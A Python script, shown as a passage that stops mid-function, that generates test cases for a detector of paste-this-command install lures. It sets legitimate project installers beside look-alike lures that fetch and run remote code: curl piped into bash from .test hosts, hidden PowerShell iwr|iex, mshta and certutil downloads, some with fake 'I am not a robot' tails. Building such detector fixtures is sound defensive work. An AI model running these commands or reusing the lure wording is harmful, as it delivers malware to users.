"""Writes tests/data/cases/b6benign.jsonl: installers copied from their own project's page and
entries typed into the Run box or Explorer's address bar that were warned about or blocked
although nothing in them is a lure, each beside the look-alike lures that must stay flagged or
blocked.

    python tests/data/cases/make_b6benign.py

Deterministic. Project names are made up; lure hosts are reserved names (*.test, *.example) or
made-up accounts on real forges. No text is copied from a blind set, a lure collection or
another detector's fixtures. Each line is {id, text, expect, technique, platform, source,
target}.

Principles:

- `plain-http-own`: a project's own page publishing its script over plain http:// from its own
  domain is a weakness (anyone on the path can swap the script), not a lure: a warning, never a
  block. Look-alikes: the same over plain HTTP from a stranger's page, an IP address, a look-alike
  host, a lure tail, a check page, a hidden window, the Run box.
- `checksum-note`: a note after a checksum step (`shasum -a 256 x.sh # verify with hash below`)
  is a real verification, not a fake check's tail. Look-alikes: the same words after a command
  that is no checksum tool, certutil fetching a file, a robot, a human, an ID or 'press Enter' in
  the note.
- `own-repo-name`: a fake check's word inside the name of the page's own repository
  (github.com/<o>/zsh4humans fetching raw.githubusercontent.com/<o>/zsh4humans/…) is the
  project's name, which its page carries. Look-alikes: the word in the file name, a branch, a
  host, another repository's or account's page, the repository's issues, a gist.
- `gitio-own-readme`: git.io is GitHub's own shortener (no new links since 2022, only ever to
  GitHub's addresses): a repository's README handing one out is its own link. Look-alikes: the
  link quoted by a tutorial, a question, the issues, a gist, another forge, a pages site (a
  warning), a query or a second path word, plain HTTP, a lure tail, a page about something
  else, a check page, a hidden window, the Run box.
- `org-repository`: an organisation's account named for the project (ferrox-rs) vouches for the
  repository of that name whoever holds it. Look-alikes: an account with a lure's words, a
  repository with another word, another project, the issues, a holder whose account is a variant
  of the organisation's or the project's name, a known publisher's name, a lure trait.
- `site-repository`: a site's name without its affix behind (ferrox-lang.org) or a three-letter
  name its docs host spells (docs.zel.io) names the product's repository. Look-alikes: a forum
  or blog on the site, a word in front (getferrox), a three-letter name from the front page, a
  repository with another word, a known publisher's name, a page about something else.
- `versioned-short-host`: v2.<name>.network's docs and get.<na>2.sh. Look-alikes: another
  version, other letters, no version label, a forum, one letter, a page about something else.
- `resource-folder`: a company's resource.<company> host keeping the product in a folder named
  after it. Look-alikes: another folder, a forum, another label, a page about something else.
- `package-repository`: a package host's repository named by the site's core (alone or with an
  installer word), or by a question or a tutorial about it (the repository's or the account's
  exact name, as for a forge repository). Look-alikes: another word, a forum, a page about
  another program or something else, a check page, a download word, a topic word, a tail.
- `publisher-repository`: a company's own forge account's README vouches for the hosts the
  company serves from (github.com/microsoft/… and aka.ms). Look-alikes: its issues, a look-alike
  account, a stranger's account, a gist, the Run box, a hidden window.
- `run-box-entry`: Windows pages through rundll32 by a library's bare name and an entry point
  that takes nothing, an editor given one local file and Windows Terminal given a profile
  (typed), a shell folder with a folder inside it. Look-alikes: rundll32 entry points that run
  what they are given or dump memory, a path or share in front of the library, extra words;
  an editor given a share, an address, two files, a switch or a chain, or written by a page;
  Windows Terminal running a command line; a climb out of a shell folder.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b6benign.jsonl")
TERMINAL = "terminal"
TUTORIAL = "https://www.shellnotes.example/how-to-install-tarnwick-on-debian/"
STRANGER = "https://www.harbour-bistro.example/menu/winter"
CHECK_PAGE = "https://verify-human.pages.example/captcha/step2"

# (repository page, the project's own domain) of long-tail projects
FORGE_PROJECTS = [
    ("https://github.com/tarnwick/tarnwick", "tarnwick.dev"),
    ("https://github.com/loamhq/loamdb", "loamdb.io"),
    ("https://gitlab.com/fenwick-tools/fenwick", "fenwick.sh"),
    ("https://github.com/pellet-org/pellet", "pellet.run"),
    ("https://codeberg.org/brindle/brindle", "brindle.cloud"),
    ("https://github.com/quillix/quillix", "quillix.app"),
]
HTTP_SHAPES = [
    "curl -sSL http://install.{d}/install.sh | bash",
    "bash <(curl -fsSL http://get.{d}/setup.sh)",
    "wget -qO- http://{d}/install.sh | sudo sh",
    'sh -c "$(curl -fsSL http://dl.{d}/install)"',
]


def plain_http_own(book: Book) -> None:
    n = 0
    for page, domain in FORGE_PROJECTS:
        for shape in HTTP_SHAPES:
            n += 1
            book.add(
                "plain-http-own", shape.format(d=domain), "suspicious", "linux", TERMINAL, page
            )
    # the project's own site, its docs section
    book.add(
        "plain-http-own",
        "curl -fsSL http://tarnwick.dev/install.sh | sh",
        "suspicious",
        "linux",
        TERMINAL,
        "https://docs.tarnwick.dev/getting-started",
    )
    book.add(
        "plain-http-own",
        "curl -fsSL http://get.loamdb.io | bash",
        "suspicious",
        "linux",
        TERMINAL,
        "https://loamdb.io/docs/install",
    )
    book.add(
        "plain-http-own",
        "iwr http://install.quillix.app/install.ps1 -UseBasicParsing | iex",
        "suspicious",
        "windows",
        TERMINAL,
        "https://github.com/quillix/quillix",
    )
    # look-alikes: plain HTTP from pages that are not the script's
    lure = "plain-http-stranger"
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        STRANGER,
    )
    book.add(
        lure,
        "curl -sSL http://install.loamdb.io/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://203.0.113.44/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick-install.test/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick.dev.cdn-get.test/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://tarnwick.dev/docs",
    )
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick/issues/41",
    )
    # the project's own domain, but with a lure's trait
    lure = "plain-http-trait"
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash # I am not a robot - Ray ID 8813",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/tarnwick/tarnwick",
    )
    book.add(
        lure,
        "curl -sSL http://tarnwick.dev/v.sh | bash",
        "malicious",
        "macos",
        TERMINAL,
        CHECK_PAGE,
    )
    book.add(
        lure,
        'powershell -w hidden -c "iwr http://install.quillix.app/i.ps1 | iex"',
        "malicious",
        "windows",
        TERMINAL,
        "https://github.com/quillix/quillix",
    )
    book.add(
        lure,
        'powershell -c "iwr http://install.quillix.app/i.ps1 | iex"',
        "malicious",
        "windows",
        "run_dialog",
        "https://github.com/quillix/quillix",
    )
    book.add(
        lure,
        "curl -sSL http://install.tarnwick.dev/install.sh | bash",
        "malicious",
        "linux",
        "unknown",
        None,
    )


CHECKSUM_OK = [
    (
        "curl -o tarnwick.sh https://tarnwick.github.io/tarnwick.sh\nshasum -a 256 tarnwick.sh # verify with hash below\nbash tarnwick.sh",
        "https://github.com/tarnwick/tarnwick",
    ),
    (
        "curl -fsSLO https://tarnwick.dev/install.sh\nsha256sum install.sh  # verify the checksum against the release page\nsh install.sh",
        "https://tarnwick.dev/docs/install",
    ),
    (
        'curl -fsSLO https://loamdb.io/install.sh\necho "4f2a9c0d1e  install.sh" | sha256sum -c  # verify hash\nbash install.sh',
        "https://loamdb.io/docs/install",
    ),
    (
        "curl -fsSLO https://pellet.run/pellet.sh\ncurl -fsSLO https://pellet.run/pellet.sh.asc\ngpg --verify pellet.sh.asc pellet.sh # verify signature\nsh pellet.sh",
        "https://pellet.run/docs",
    ),
    (
        "iwr https://quillix.app/install.ps1 -OutFile install.ps1\nGet-FileHash .\\install.ps1 # verify the SHA256 hash matches the one below\n.\\install.ps1",
        "https://quillix.app/docs/windows",
    ),
    (
        "curl -fsSLO https://brindle.cloud/install.sh\nsha512sum install.sh # verify: compare with the hash published in the release notes\nbash install.sh",
        "https://brindle.cloud/docs/getting-started",
    ),
    (
        "curl -fsSLO https://fenwick.sh/install.sh\nopenssl dgst -sha256 install.sh # verify hash\nbash install.sh",
        "https://fenwick.sh/",
    ),
    (
        "curl -fsSLO https://tarnwick.dev/install.sh\nb2sum install.sh # verify the digest\nbash install.sh",
        "https://tarnwick.dev/docs/install",
    ),
]


def checksum_note(book: Book) -> None:
    for text, page in CHECKSUM_OK:
        book.add("checksum-note", text, "not_flagged", "linux", TERMINAL, page)
    # the same notes typed bare, with no download: nothing to say
    book.add(
        "checksum-note",
        "shasum -a 256 tarnwick.sh # verify with hash below",
        "not_flagged",
        "linux",
        TERMINAL,
        None,
    )
    book.add(
        "checksum-note",
        "certutil -hashfile setup.exe SHA256 # verify hash",
        "not_flagged",
        "windows",
        TERMINAL,
        None,
    )
    lure = "checksum-note-lure"
    page = "https://github.com/tarnwick/tarnwick"
    # a fake check's words after something that is no checksum step
    book.add(
        lure,
        "mshta https://tarnwick-check.test/a.hta # Verify hash: 4471-AB",
        "malicious",
        "windows",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    )
    book.add(
        lure,
        "certutil -urlcache -f https://quiet-lab.test/a.exe a.exe && a.exe # verify hash 44A1",
        "malicious",
        "windows",
        "run_dialog",
        "https://www.harbourview-dental.example/",
    )
    book.add(
        lure,
        "curl -fsSL https://tarnwick-check.test/x.sh | bash # verification hash 4471",
        "malicious",
        "macos",
        TERMINAL,
        STRANGER,
    )
    # a checksum step with a fake check's words in its note
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nshasum -a 256 t.sh # I am not a robot - verify hash\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nsha256sum t.sh # Verification ID: 8831-2\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nsha256sum t.sh # verify hash, then press Enter\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh\nshasum t.sh # ✅ verify human hash\nbash t.sh",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    # a checksum tool and another program on the line of the note
    book.add(
        lure,
        "curl -o t.sh https://tarnwick-check.test/t.sh; sha256sum t.sh; bash t.sh # verify hash 8841",
        "malicious",
        "macos",
        TERMINAL,
        page,
    )
    book.add(
        lure,
        'powershell -w h -c "iwr https://quiet-lab.test/p.ps1|iex" ; Get-FileHash x # verify hash 4471',
        "malicious",
        "windows",
        "run_dialog",
        None,
    )


REPO_NAMES = [
    "dots4humans",
    "humanize-dates",
    "robotcraft",
    "verifyd",
    "validator-kit",
    "cloudflare-ddns",
    "fixerror-linter",
    "checkin-bot",
]
OWNERS = ["marlowe", "tidepool-dev", "kestrelhq", "oakum"]


def own_repo_name(book: Book) -> None:
    shapes = [
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/{o}/{r}/main/install)"',
        "curl -fsSL https://raw.githubusercontent.com/{o}/{r}/HEAD/install.sh | bash",
        "wget -qO- https://github.com/{o}/{r}/releases/latest/download/install.sh | sh",
    ]
    for i, repo in enumerate(REPO_NAMES):
        owner = OWNERS[i % len(OWNERS)]
        shape = shapes[i % len(shapes)]
        book.add(
            "own-repo-name",
            shape.format(o=owner, r=repo),
            "not_flagged",
            "linux",
            TERMINAL,
            f"https://github.com/{owner}/{repo}",
        )
        book.add(
            "own-repo-name",
            shape.format(o=owner, r=repo),
            "not_flagged",
            "linux",
            TERMINAL,
            f"https://github.com/{owner}/{repo}#installation",
        )
    book.add(
        "own-repo-name",
        "curl -fsSL https://gitlab.com/marlowe/robotcraft/-/raw/main/install.sh | bash",
        "not_flagged",
        "linux",
        TERMINAL,
        "https://gitlab.com/marlowe/robotcraft",
    )
    lure = "own-repo-name-lure"
    # the word in a part of the address the repository's name does not explain
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/tarnkit/main/verify-human.sh | bash",
        "flagged",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/tarnkit/captcha/install.sh | bash",
        "flagged",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    # another repository's page, another account's page, a stranger's page
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/marlowe/verifyd/main/install | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/tarnkit",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verify-human/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/marlowe/verify-human",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/human-check/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        STRANGER,
    )
    # the repository's issues (anyone writes there) and a gist
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verify-human/main/run | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/oakum/verify-human/issues/7",
    )
    book.add(
        lure,
        "curl -fsSL https://gist.githubusercontent.com/oakum/4f2a9c/raw/human-verify.sh | bash",
        "malicious",
        "macos",
        TERMINAL,
        "https://gist.github.com/oakum/4f2a9c",
    )
    # a lure trait besides the name
    book.add(
        lure,
        'sh -c "$(curl -fsSL https://raw.githubusercontent.com/oakum/verifyd/main/install)" # I am not a robot',
        "malicious",
        "macos",
        TERMINAL,
        "https://github.com/oakum/verifyd",
    )
    book.add(
        lure,
        "curl -fsSL https://raw.githubusercontent.com/oakum/verifyd/main/install | bash",
        "flagged",
        "macos",
        "unknown",
        None,
    )


def add_all(book: Book, technique: str, rows: list[tuple[str, str, str | None, str]]) -> None:
    """rows of (text, expect, page, target); the platform is read from the text."""
    for text, expect, page, target in rows:
        platform = (
            "windows" if ("iex" in text or "irm " in text or "powershell" in text) else "linux"
        )
        book.add(technique, text, expect, platform, target, page)


GITIO_REPOS = [
    ("https://github.com/wrenfold/g", "curl -sSL https://git.io/g-setup | sh -s"),
    (
        "https://github.com/Harlan/openvpn-setup",
        "wget https://git.io/ovpn -O openvpn-setup.sh && bash openvpn-setup.sh",
    ),
    (
        "https://github.com/Harlan/wg-setup",
        "wget https://git.io/wgsetup -O wg-setup.sh && sudo bash wg-setup.sh",
    ),
    ("https://github.com/bramblecode/prelude-mini", "curl -L https://git.io/pmini | sh"),
    ("https://github.com/oakum/dotkit#install", "bash <(curl -fsSL https://git.io/dotkit)"),
    (
        "https://github.com/oakum/dotkit/blob/main/README.md",
        'sh -c "$(curl -fsSL https://git.io/dotkit)"',
    ),
    ("https://github.com/kestrelhq/tmux-kit", "curl -fsSL https://git.io/tmuxkit | bash"),
    ("https://github.com/marlowe/vimrc-lite", "wget -qO- https://git.io/vlite | sh"),
    (
        "https://github.com/tidepool-dev/nodeenv-lite",
        "curl -L https://git.io/n-lite | bash -s -- -y",
    ),
    ("https://github.com/loamhq/loam-cli/releases", "curl -sL https://git.io/loamcli | sudo bash"),
]


def forge_short_link(book: Book) -> None:
    for page, text in GITIO_REPOS:
        book.add("gitio-own-readme", text, "not_flagged", "linux", TERMINAL, page)
    pipe = "curl -sSL https://git.io/g-setup | sh -s"
    add_all(book, "gitio-elsewhere", [
        # quoted by a tutorial, a question, a forum, a gist, another forge, a pages site: the
        # link is anyone's to hand out there, a download from an unknown host (a warning)
        (pipe, "flagged", "https://www.shellnotes.example/install-g-version-manager/", TERMINAL),
        (pipe, "flagged", "https://askubuntu.com/questions/99812/how-to-install-g", TERMINAL),
        (pipe, "flagged", "https://github.com/wrenfold/g/issues/12", TERMINAL),
        (pipe, "flagged", "https://github.com/wrenfold/g/discussions/3", TERMINAL),
        (pipe, "flagged", "https://gist.github.com/wrenfold/8f2c1a", TERMINAL),
        (pipe, "flagged", "https://gitlab.com/wrenfold/g", TERMINAL),
        (pipe, "flagged", "https://wrenfold.github.io/g/", TERMINAL),
        (pipe, "flagged", "https://github.com/wrenfold", TERMINAL),
        (pipe, "flagged", None, TERMINAL),
        # not one short link: a query, a second path word, plain HTTP
        ("curl -sSL 'https://git.io/g-setup?x=1' | sh", "flagged", "https://github.com/wrenfold/g", TERMINAL),
        ("curl -sSL https://git.io/g/setup | sh", "flagged", "https://github.com/wrenfold/g", TERMINAL),
        ("curl -sSL http://git.io/g-setup | sh", "flagged", "https://github.com/wrenfold/g", TERMINAL),
    ])  # fmt: skip
    add_all(book, "gitio-lure", [
        (pipe + " # I am not a robot - Verification ID 2231", "malicious", "https://github.com/wrenfold/g", TERMINAL),
        (pipe, "malicious", STRANGER, TERMINAL),
        (pipe, "malicious", CHECK_PAGE, TERMINAL),
        ('powershell -w hidden -c "iex (irm https://git.io/g-setup)"', "malicious", "https://github.com/wrenfold/g", TERMINAL),
        ('powershell -c "iex (irm https://git.io/g-setup)"', "malicious", "https://github.com/wrenfold/g", "run_dialog"),
    ])  # fmt: skip


# (organisation account, the project's repository, its holder)
ORG_PROJECTS = [
    ("ferrox-rs", "ferrox", "jdalton"),
    ("quillix-org", "quillix", "mira-k"),
    ("tarnwick-dev", "tarnwick", "pellow"),
    ("loamdb-community", "loamdb", "hank-o"),
    ("brindle-labs", "brindle", "sofiaw"),
    ("kelpie-js", "kelpie", "tomasz-r"),
]


def org_repository(book: Book) -> None:
    shapes = [
        "cargo install --locked --git https://github.com/{who}/{repo}.git {repo}-cli",
        "curl -fsSL https://raw.githubusercontent.com/{who}/{repo}/main/install.sh | sh",
        "go install github.com/{who}/{repo}/cmd/{repo}@latest && {repo} --version",
        "wget -qO- https://github.com/{who}/{repo}/releases/latest/download/install.sh | bash",
    ]
    for i, (org, repo, who) in enumerate(ORG_PROJECTS):
        for j, page in enumerate(
            (
                f"https://{org}.github.io/docs/installation/",
                f"https://github.com/{org}/{repo}-plugins",
            )
        ):
            text = shapes[(i + j) % len(shapes)].format(who=who, repo=repo)
            book.add("org-repository", text, "not_flagged", "linux", TERMINAL, page)
    text = "curl -fsSL https://raw.githubusercontent.com/jdalton/ferrox/main/install.sh | sh"
    add_all(book, "org-repository-lure", [
        # an account whose words are a lure's, not an organisation's
        (text, "flagged", "https://ferrox-support.github.io/docs/install/", TERMINAL),
        (text, "flagged", "https://ferrox-help.github.io/", TERMINAL),
        (text, "flagged", "https://github.com/ferroxrs/ferrox-docs", TERMINAL),
        # another repository: the project's name with another word, or another project
        ("curl -fsSL https://raw.githubusercontent.com/jdalton/ferrox-helper/main/install.sh | sh", "flagged", "https://ferrox-rs.github.io/docs/", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/jdalton/kelpie/main/install.sh | sh", "flagged", "https://ferrox-rs.github.io/docs/", TERMINAL),
        # an account that is a variant of the organisation's or of the project's name
        ("curl -fsSL https://raw.githubusercontent.com/ferrox-rs-dev/ferrox/main/install.sh | sh", "flagged", "https://ferrox-rs.github.io/docs/", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/ferrox-rsx/ferrox/main/install.sh | sh", "flagged", "https://github.com/ferrox-rs/ferrox-plugins", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/ferrox-labs/ferrox/main/install.sh | sh", "flagged", "https://ferrox-rs.github.io/docs/", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/ferrox/ferrox/main/install.sh | sh", "flagged", "https://ferrox-rs.github.io/docs/", TERMINAL),
        # the organisation's issues, a known publisher's name
        (text, "flagged", "https://github.com/ferrox-rs/ferrox-plugins/issues/9", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/jdalton/rustup/main/install.sh | sh", "flagged", "https://rustup-rs.github.io/docs/", TERMINAL),
        # a lure trait, the Run box
        (text + " # ✅ Verification ID: 4471", "malicious", "https://ferrox-rs.github.io/docs/", TERMINAL),
        ('powershell -w hidden -c "irm https://raw.githubusercontent.com/jdalton/ferrox/main/i.ps1 | iex"', "malicious", "https://ferrox-rs.github.io/docs/", TERMINAL),
    ])  # fmt: skip


# (page on the product's own site, the repository named for the product)
SITE_REPOSITORIES = [
    ("https://www.ferrox-lang.org/docs/installation", "github.com/ferrox-labs/ferrox"),
    ("https://ferrox-lang.org/learn/install", "github.com/ferrox-labs/ferrox"),
    ("https://docs.quillix-project.io/getting-started", "github.com/quill-hq/quillix"),
    ("https://www.tarnwickhq.com/docs/cli", "github.com/pellow/tarnwick"),
    ("https://docs.zel.io/guides/developer/install", "github.com/ZelLabs/zel"),
    ("https://docs.kio.dev/install", "github.com/kio-systems/kio"),
    ("https://developer.brindle-lang.dev/setup/install", "github.com/brindle-core/brindle"),
    ("https://docs.wyn.sh/getting-started/install", "github.com/wyn-shell/wyn"),
]


def site_repository(book: Book) -> None:
    for i, (page, repo) in enumerate(SITE_REPOSITORIES):
        name = repo.rsplit("/", 1)[1]
        texts = [
            f"cargo install --git https://{repo} {name}-cli --force",
            f"cargo install --locked --git https://{repo}.git --branch stable {name}",
            f"curl -fsSL https://raw.githubusercontent.com/{repo.split('/', 1)[1]}/main/install.sh | sh",
        ]
        book.add("site-repository", texts[i % 3], "not_flagged", "linux", TERMINAL, page)
        book.add("site-repository", texts[(i + 1) % 3], "not_flagged", "linux", TERMINAL, page)
    add_all(book, "site-repository-lure", [
        # a forum or a blog on the site, a site named with a download word in front, a
        # three-letter name from the site's front page (not its docs), a page about another
        # thing, a known publisher's name
        ("cargo install --git https://github.com/anyone/ferrox ferrox", "flagged", "https://forum.ferrox-lang.org/t/help/42", TERMINAL),
        ("cargo install --git https://github.com/anyone/ferrox ferrox", "flagged", "https://blog.ferrox-lang.org/2026/release-notes", TERMINAL),
        ("cargo install --git https://github.com/anyone/ferrox ferrox", "flagged", "https://getferrox.top/download", TERMINAL),
        ("cargo install --git https://github.com/anyone/zel zel", "flagged", "https://www.zel.io/", TERMINAL),
        ("cargo install --git https://github.com/anyone/zel zel", "flagged", "https://forum.zel.io/t/install/3", TERMINAL),
        ("cargo install --git https://github.com/anyone/ferrox ferrox", "flagged", "https://www.ferrox-lang.org/", TERMINAL),
        ("cargo install --git https://github.com/anyone/ferrox-helper x", "flagged", "https://www.ferrox-lang.org/docs/installation", TERMINAL),
        ("cargo install --git https://github.com/anyone/rustup rustup", "flagged", "https://www.rustup-lang.org/docs/install", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/anyone/ferrox/main/install.sh | sh", "malicious", "https://www.ferrox-lang.org/menu/winter-soup", TERMINAL),
        ("curl -fsSL https://raw.githubusercontent.com/anyone/ferrox/main/install.sh | sh # I am not a robot", "malicious", "https://www.ferrox-lang.org/docs/installation", TERMINAL),
    ])  # fmt: skip


def versioned_short_host(book: Book) -> None:
    add_all(book, "versioned-short-host", [
        ("bash <(curl -fsSL https://get.ta2.sh/)", "not_flagged", "https://v2.tarnwick.network/docs/getting-started/installation/", TERMINAL),
        ("curl -fsSL https://get.qui3.dev | bash", "not_flagged", "https://v3.quillix.io/docs/install", TERMINAL),
        ("bash <(curl -fsSL https://fen2.run/install.sh)", "not_flagged", "https://docs.v2.fenwicker.org/quickstart", TERMINAL),
        ("curl -fsSL https://get.lo4.sh | sudo bash -s -- --version latest", "not_flagged", "https://v4.loamdbcore.net/docs/server/install", TERMINAL),
    ])  # fmt: skip
    add_all(book, "versioned-short-host-lure", [
        # another version, letters the name does not start with, no version on the page's host
        ("bash <(curl -fsSL https://get.ta3.sh/)", "flagged", "https://v2.tarnwick.network/docs/getting-started/installation/", TERMINAL),
        ("bash <(curl -fsSL https://get.tx2.sh/)", "flagged", "https://v2.tarnwick.network/docs/getting-started/installation/", TERMINAL),
        ("bash <(curl -fsSL https://get.ta2.sh/)", "flagged", "https://tarnwick.network/docs/installation/", TERMINAL),
        ("bash <(curl -fsSL https://get.ta2.sh/)", "flagged", "https://forum.v2.tarnwick.network/t/install/8", TERMINAL),
        ("bash <(curl -fsSL https://get.t2.sh/)", "flagged", "https://v2.tarnwick.network/docs/", TERMINAL),
        # a page about something else, a lure trait, the Run box
        ("bash <(curl -fsSL https://get.ha2.sh/)", "malicious", "https://v2.harbourbistro.example/menu/winter-soup", TERMINAL),
        ("bash <(curl -fsSL https://get.ta2.sh/) # Verify you are human - ID 8812", "malicious", "https://v2.tarnwick.network/docs/", TERMINAL),
    ])  # fmt: skip


def company_resource_folder(book: Book) -> None:
    add_all(book, "resource-folder", [
        ("curl -sSL https://resource.brindleworks.com/ferrox/package/quick_start.sh -o quick_start.sh && sudo bash quick_start.sh", "not_flagged", "https://ferrox.pro/docs/installation/online/", TERMINAL),
        ("curl -fsSL https://resources.tidecorp.io/loamdb/install.sh | sudo bash", "not_flagged", "https://loamdb.io/docs/install", TERMINAL),
        ("bash <(curl -fsSL https://resource.quillcorp.cn/quillix/v2/setup.sh)", "not_flagged", "https://www.quillix.app/docs/quickstart", TERMINAL),
    ])  # fmt: skip
    add_all(book, "resource-folder-lure", [
        ("curl -sSL https://resource.brindleworks.com/other/quick_start.sh -o q.sh && sudo bash q.sh", "flagged", "https://ferrox.pro/docs/installation/online/", TERMINAL),
        ("curl -sSL https://resource.brindleworks.com/ferrox/quick_start.sh -o q.sh && sudo bash q.sh", "flagged", "https://forum.ferrox.pro/t/install/3", TERMINAL),
        ("curl -sSL https://resourcez.brindleworks.com/ferrox/quick_start.sh -o q.sh && sudo bash q.sh", "flagged", "https://ferrox.pro/docs/installation/online/", TERMINAL),
        ("curl -sSL https://resource.brindleworks.com/ferrox/quick_start.sh -o q.sh && sudo bash q.sh", "malicious", "https://ferrox.pro/menu/winter-soup", TERMINAL),
    ])  # fmt: skip


def package_repository(book: Book) -> None:
    add_all(book, "package-repository", [
        ("curl -s https://packagecloud.io/install/repositories/brindleworks/ferrox-cli/script.deb.sh | sudo bash\nsudo apt-get install ferrox", "not_flagged", "https://www.ferrox.net/apps/cli", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/tidecorp/loamdb/script.rpm.sh | sudo bash", "not_flagged", "https://loamdb.io/docs/install/rpm", TERMINAL),
        ("curl -1sLf https://dl.cloudsmith.io/public/quillcorp/quillix-installer/setup.deb.sh | sudo -E bash", "not_flagged", "https://docs.quillix.app/linux", TERMINAL),
    ])  # fmt: skip
    # a page about the repository's program, quoting it: a question, a tutorial naming the
    # repository or the account (as for a forge repository)
    add_all(book, "package-repository", [
        ("curl -s https://packagecloud.io/install/repositories/brindleworks/ferrox-cli/script.deb.sh | sudo bash", "not_flagged", "https://askubuntu.com/questions/1502291/install-ferrox-cli-from-brindleworks", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/tidecorp/loamdb/script.deb.sh | sudo bash", "not_flagged", "https://www.shellnotes.example/how-to-install-loamdb-on-ubuntu-24-04/", TERMINAL),
        ("curl -1sLf https://dl.cloudsmith.io/public/quillcorp/quillix/setup.deb.sh | sudo -E bash", "not_flagged", "https://dev.to/ops-notes/setting-up-quillix-on-debian-3kd1", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/brindleworks/ferrox-cli/script.deb.sh | sudo bash", "not_flagged", "https://unix.stackexchange.com/questions/771001/brindleworks-repository-gpg-error", TERMINAL),
    ])  # fmt: skip
    add_all(book, "package-repository-lure", [
        # a page about another program, with a check page's address, about something else;
        # a repository named with a download word
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/install-loamdb-on-ubuntu", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://ferrox-cli.pages.example/captcha/verify-human", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://www.harbour-bistro.example/recipes/winter-soup", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/get-ferrox/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/get-ferrox-on-ubuntu", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/docker/script.deb.sh | sudo bash", "flagged", "https://askubuntu.com/questions/1502291/install-docker-on-ubuntu", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash # ✅ I am not a robot", "malicious", "https://askubuntu.com/questions/1502291/install-ferrox-cli", TERMINAL),

        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-helper/script.deb.sh | sudo bash", "flagged", "https://www.ferrox.net/apps/cli", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "flagged", "https://forum.ferrox.net/t/install/5", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash", "malicious", "https://www.ferrox.net/menu/winter", TERMINAL),
        ("curl -s https://packagecloud.io/install/repositories/anyone/ferrox-cli/script.deb.sh | sudo bash # ✅ Verified human", "malicious", "https://www.ferrox.net/apps/cli", TERMINAL),
    ])  # fmt: skip


def publisher_repository(book: Book) -> None:
    add_all(book, "publisher-repository", [
        ('iex "& { $(irm https://aka.ms/install-widget-credprovider.ps1) }"', "not_flagged", "https://github.com/microsoft/widget-credprovider", TERMINAL),
        ("irm https://aka.ms/install-quillix.ps1 | iex", "not_flagged", "https://github.com/Azure/quillix-tools#install", TERMINAL),
        ("curl -sSL https://aka.ms/install-quillix.sh | bash", "not_flagged", "https://github.com/microsoft/quillix-tools/blob/main/README.md", TERMINAL),
        ("curl -fsSL https://storage.googleapis.com/ferrox-tools/install.sh | bash", "not_flagged", "https://github.com/GoogleCloudPlatform/ferrox-tools", TERMINAL),
